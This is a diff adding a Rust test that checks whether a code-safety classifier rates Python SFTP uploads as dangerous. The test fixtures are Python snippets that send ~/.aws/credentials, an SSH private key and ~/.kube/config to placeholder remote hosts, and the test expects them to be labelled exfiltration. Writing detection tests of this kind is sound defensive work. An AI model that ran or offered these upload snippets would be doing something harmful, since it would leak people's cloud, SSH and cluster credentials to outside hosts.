@@ -1404,6 +1404,44 @@ fn command_line_option_defaults_in_other_parsers() {
     check(Py, &click("'build'"), Suspicious, "destructive");
 }
 
+/// Remote shells and file transfer in Python (paramiko, pysftp, fabric, scp): `put` sends the
+/// local file's content to the host the client connected to.
+#[test]
+fn python_remote_file_transfer() {
+    let deploy = |files: &str, host: &str| {
+        format!(
+            "import os\nimport paramiko\n\nssh = paramiko.SSHClient()\nssh.load_system_host_keys()\nssh.connect('{host}', username='deploy')\nsftp = ssh.open_sftp()\nfor f in {files}:\n    sftp.put(f, '/srv/in/' + os.path.basename(f))\nssh.close()\n"
+        )
+    };
+    check(
+        Py,
+        &deploy(
+            "['dist/app.tgz', os.path.expanduser('~/.aws/credentials')]",
+            "staging.example-unlisted.dev",
+        ),
+        Dangerous,
+        "exfiltration",
+    );
+    check(
+        Py,
+        &deploy("['dist/app.tgz']", "staging.example-unlisted.dev"),
+        Suspicious,
+        "network",
+    );
+    check(
+        Py,
+        "import os, pysftp\nwith pysftp.Connection('files.example-unlisted.dev', username='u') as s:\n    s.put(os.path.expanduser('~/.ssh/id_ed25519'))\n",
+        Dangerous,
+        "exfiltration",
+    );
+    check(
+        Py,
+        "import os, paramiko\nt = paramiko.Transport(('203.0.113.5', 22))\nt.connect(username='u', password='p')\nsftp = paramiko.SFTPClient.from_transport(t)\nsftp.put(os.path.expanduser('~/.kube/config'), 'k')\n",
+        Dangerous,
+        "exfiltration",
+    );
+}
+
 /// An `argparse` option's default is what the script uses when run without it: the namespace
 /// `parse_args()` returns holds the default or a value nobody knows.
 #[test]
